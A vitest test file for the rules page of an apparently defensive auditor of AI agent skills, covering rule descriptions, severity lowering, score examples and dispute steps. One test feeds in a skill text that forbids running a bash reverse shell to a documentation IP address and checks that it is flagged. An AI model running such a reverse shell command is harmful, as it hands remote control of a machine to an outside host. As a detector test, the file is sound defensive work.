/** The rules page says what the code does, about every rule that there is. */
import { describe, expect, it } from 'vitest';
import { allRules } from '../../src/audit/ruleset.ts';
import { parseFrontMatter } from '../../src/catalog/front-matter.ts';
import { feedback } from '../../src/api/feedback/endpoint.ts';
import { disputeWords } from '../../src/api/audit/dispute.ts';
import {
  conditionFacts,
  disputeCommand,
  disputeLead,
  disputeSteps,
} from '../../src/protocol/audit-rules/audit-content.ts';
import { toFamilyContents } from '../../src/protocol/audit-rules/rule-content.ts';
import { ruleHref } from '../../src/protocol/audit-rules/rule-links.ts';
import { scoreExamples } from '../../src/protocol/audit-rules/score-examples.ts';
import { suppressionExample } from '../../src/protocol/audit-rules/suppression-example.ts';
import { auditRulesMarkdown } from '../../src/protocol/markdown/audit-rules-page.ts';
import { SuppressionFrontMatter } from '../../src/schema/collections.ts';
import { auditScoreRule } from '../../src/scoring/audit-score.ts';
import { audit, saying } from '../audit/skill-folders.ts';

const rules = toFamilyContents().flatMap((family) => family.rules);

describe('the rules', () => {
  it('are all there, each once', () => {
    expect(rules.map(({ id }) => id).sort()).toEqual(allRules.map(({ id }) => id).sort());
    expect(rules.length).toBeGreaterThan(50);
  });
  it.each(rules)('$id says where it looks, why, and how to clear it', ({ looksAt, why, fix }) => {
    expect(looksAt).not.toBe('');
    expect(why).toMatch(/\.$/);
    expect(fix).toMatch(/\.$/);
  });
  it.each(rules)('$id has examples', ({ looksFor }) => {
    expect(looksFor.length).toBeGreaterThan(0);
  });
  it.each(rules.flatMap(({ id, looksFor }) => looksFor.map((each) => ({ id, ...each }))))(
    '$id shows what it finds and leaves alone: $what',
    ({ catches, spares }) => {
      expect(catches.length).toBeGreaterThan(0);
      expect(spares.length).toBeGreaterThan(0);
    },
  );
  it('have an address each, which a finding leads to', () => {
    expect(ruleHref('RC-01')).toBe('/audit-rules#RC-01');
  });
  it('name a severity only where an idea differs from its rule', () => {
    const override = rules.find(({ id }) => id === 'PI-03');
    expect(override?.looksFor.map(({ severity }) => severity)).toContain('low');
    expect(override?.looksFor.map(({ severity }) => severity)).not.toContain('high');
  });
});

describe('what lowers a finding', () => {
  const said = conditionFacts.join('\n');

  it('is said with the level that the engine gives, also of a rule with one of its own', () => {
    const skill = saying('Never run `bash -i >& /dev/tcp/198.51.100.7/443 0>&1`.');
    const finding = audit(skill).findings.find(({ rule_id }) => rule_id === 'RC-05');
    expect(finding).toMatchObject({ base_severity: 'critical', severity: 'low' });
    expect(said).toContain('RC-05 becomes low');
    expect(said).toMatch(/PI-04[^.;]* are lowered by none of the three/);
  });
  it('is no starting severity: those of single patterns are named beside the rule', () => {
    expect(rules.find(({ id }) => id === 'RC-02')).toMatchObject({ severity: 'critical', others: ['high'] });
    expect(rules.find(({ id }) => id === 'RC-01')?.others).not.toContain('high');
  });
});

describe('the rule of the score', () => {
  it('is the same sentences wherever it is explained', () => {
    const page = auditRulesMarkdown({
      client: null,
      siteUrl: 'https://skills.example',
      programRepository: null,
    });
    for (const sentence of auditScoreRule) expect(page).toContain(sentence);
  });
});

describe('an example on the page', () => {
  it('shows characters that are not displayed by their numbers', () => {
    const shown = rules.flatMap(({ looksFor }) => looksFor.flatMap(({ catches }) => catches)).join('\n');
    expect(shown).toContain('dele<U+200B>te');
    expect(shown).toMatch(/<U\+E0061>/);
    expect(shown).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u{e0000}-\u{e01ef}]/u);
  });
});

describe('the worked examples', () => {
  it('come out as the design says', () => {
    expect(scoreExamples().map(({ score, risk }) => [score, risk])).toEqual([
      [100, 'low'],
      [96, 'low'],
      [89, 'medium'],
      [59, 'high'],
      [56, 'high'],
      [42, 'high'],
      [19, 'high'],
    ]);
  });
  it('have a sum that leads to the score', () => {
    for (const { sum, score } of scoreExamples()) {
      const [terms = '', cap = '100'] = sum.split(', at most ');
      const raw = terms
        .split(' − ')
        .map(Number)
        .reduce((left, cost) => left - cost);
      expect(Math.min(Number(cap), Math.floor(raw + 0.5))).toBe(score);
    }
  });
});

describe('a dispute', () => {
  const siteUrl = 'https://skills.example';
  const own = { siteUrl, client: 'npx -y https://skills.example/cli/1.tgz', programRepository: null };

  it('needs no checkout and no pull request where the registry names no repository', () => {
    const told = [disputeLead(null), ...disputeSteps(own), disputeWords(own)].join('\n');
    expect(told).toContain('`npx -y https://skills.example/i audit path/to/skill`');
    expect(told).toContain('POST /api/agent/feedback');
    expect(disputeWords(own)).toContain(`${siteUrl}/audit-rules#dispute`);
    expect(told).not.toMatch(/checkout|open a pull request/);
  });

  it('is sent by a call that takes it', () => {
    const [, body = ''] = /-d '(.*)'$/.exec(disputeCommand(siteUrl)) ?? [];
    expect(feedback.body?.safeParse(JSON.parse(body)).error).toBeUndefined();
  });

  it('is a pull request to the repository that the registry names', () => {
    const repository = 'https://git.example/skill-registry';
    const context = { ...own, programRepository: repository };
    expect(disputeLead(repository)).toContain(`by pull request to ${repository}`);
    expect(disputeSteps(context).join('\n')).toContain('open a pull request');
    expect(disputeWords(context)).toContain(`open a pull request at ${repository} `);
  });
});

describe('the suppression shown as an example', () => {
  it('is one that the content folder would take', () => {
    const { data } = parseFrontMatter(suppressionExample);
    expect(SuppressionFrontMatter.safeParse(data).error).toBeUndefined();
  });
});
